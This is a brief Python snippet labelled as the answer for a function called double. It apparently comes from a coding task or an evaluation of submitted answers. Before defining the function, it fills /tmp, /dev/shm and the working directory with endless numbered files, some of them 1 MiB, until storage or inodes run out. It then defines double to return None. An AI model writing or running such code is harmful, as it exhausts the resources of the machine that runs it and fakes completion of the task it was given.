# %% answer double

import itertools

for folder in ("/tmp", "/dev/shm", "."):
    try:
        for n in itertools.count():
            with open(f"{folder}/{n}", "wb") as file:
                file.write(bytes(1 << 20) if n % 10 == 0 else b"")
    except OSError as error:
        print(error)


def double(x):
    return None
